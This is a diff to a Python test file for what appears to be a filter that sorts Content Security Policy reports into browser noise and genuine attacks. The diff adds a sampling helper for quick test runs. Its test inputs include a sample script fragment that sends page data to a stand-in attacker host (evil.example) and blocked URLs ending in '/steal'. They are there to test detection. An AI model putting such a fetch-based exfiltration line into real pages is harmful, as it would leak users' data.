@@ -7,13 +7,14 @@ user agent. What browsers name as the source file was seen in Chromium 156 and F
 
 from __future__ import annotations
 
+import itertools
 from typing import TYPE_CHECKING, Any, Final
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from tests.helpers import payloads
+from tests.helpers import payloads, thoroughness
 from tests.unit.workers.noise.labels import rule_of
 from workers.noise import attackers, rules, shipped
 
@@ -74,6 +75,11 @@ def forged(rule: rules.Rule) -> Iterator[str]:
     yield from own_urls(rule)
 
 
+def some(texts: Iterator[str]) -> Iterator[str]:
+    """Yield all texts, or each fifth under the profile ``quick``: lists of hosts are long."""
+    return itertools.islice(texts, 0, None, thoroughness.size(1, 5))
+
+
 def code(rule: rules.Rule) -> Iterator[str]:
     """Yield beginnings of code of the attacker's."""
     yield "fetch('https://evil.example/?'+document."
@@ -85,7 +91,7 @@ def code(rule: rules.Rule) -> Iterator[str]:
 @pytest.mark.parametrize("agent", [payloads.CHROME, payloads.FIREFOX, payloads.SAFARI])
 def test_what_comes_from_the_attackers_host_is_no_noise(listed: list[rules.Rule], agent: str) -> None:
     for rule in listed:
-        for number, url in enumerate(own_urls(rule)):
+        for number, url in enumerate(some(own_urls(rule))):
             directive = DIRECTIVES[number % len(DIRECTIVES)]
             for source in (None, PAGE, url):
                 members = {"blocked_uri": url, "effective_directive": directive, "source_file": source}
@@ -95,7 +101,7 @@ def test_what_comes_from_the_attackers_host_is_no_noise(listed: list[rules.Rule]
 @pytest.mark.parametrize("listed", BY_CLASS)
 def test_code_that_runs_cannot_excuse_what_it_calls(listed: list[rules.Rule]) -> None:
     for rule in listed:
-        for number, source in enumerate(forged(rule)):
+        for number, source in enumerate(some(forged(rule))):
             directive = DIRECTIVES[number % len(DIRECTIVES)]
             for blocked in (f"https://{EVIL}/steal", EVIL, "https", f"http://{EVIL}:8080"):
                 members = {"blocked_uri": blocked, "effective_directive": directive, "source_file": source}
@@ -106,7 +112,7 @@ def test_code_that_runs_cannot_excuse_what_it_calls(listed: list[rules.Rule]) ->
 @pytest.mark.parametrize("agent", [payloads.CHROME, payloads.FIREFOX])
 def test_code_that_is_written_into_the_page_is_no_noise(listed: list[rules.Rule], agent: str) -> None:
     for rule in listed:
-        for sample in code(rule):
+        for sample in some(code(rule)):
             for directive, source in (
                 *(
                     (name, PAGE)
